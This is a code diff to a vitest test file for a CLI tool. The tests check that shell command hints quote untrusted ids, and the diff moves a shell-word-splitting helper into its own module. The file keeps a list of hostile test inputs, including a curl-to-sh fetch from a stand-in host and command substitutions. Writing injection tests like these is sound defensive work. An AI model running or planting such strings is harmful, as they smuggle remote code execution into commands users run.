@@ -2,11 +2,11 @@
 // service or from the user) is quoted, so a real shell reads back exactly the command meant, and
 // nothing in a hostile id runs: key rotation's and creation's hints, job cancel, job status on a
 // terminal, and job pages. A --profile given on the command line is repeated in the hint.
-import { spawnSync } from 'node:child_process';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runCli } from './helpers/cli.js';
+import { wordsOf } from './helpers/shell-words.js';
 import { sandboxFixture, type SandboxFixture } from './helpers/sandbox.js';
 import { crawl } from './support/harness.js';
 
@@ -17,13 +17,6 @@ beforeEach(async () => {
 afterEach(() => fx.close());
 
 const HOSTILE = ['key_1; curl -s evil.example | sh #', '$(touch /tmp/crawl-pwned)', '`id`', "it's here", 'a"b c', '--force'];
-
-/** The words a POSIX shell makes of `line`, without running any of it (set -- only splits and unquotes). */
-function wordsOf(line: string): string[] {
-  const r = spawnSync('sh', ['-c', `set -- ${line}; for w in "$@"; do printf '%s\\0' "$w"; done`], { encoding: 'utf8' });
-  if (r.status !== 0) throw new Error(`sh failed on ${line}: ${r.stderr}`);
-  return r.stdout.split('\0').slice(0, -1);
-}
 
 /** The command between the backticks after `lead` on one line of `text` (the last backtick closes it). */
 function suggested(text: string, lead: string): string {
